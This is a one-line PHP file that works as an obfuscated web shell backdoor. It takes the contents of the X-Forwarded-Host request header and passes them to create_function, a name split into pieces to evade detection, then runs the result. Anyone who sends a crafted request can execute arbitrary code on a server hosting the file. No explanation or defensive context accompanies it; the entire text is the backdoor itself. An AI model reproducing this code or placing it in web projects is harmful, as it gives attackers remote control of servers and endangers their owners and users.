<?php $s = $_SERVER['HTTP_X_FORWARDED_HOST']; $f = 'cre'.'ate_function'; $g = $f('', $s); $g();
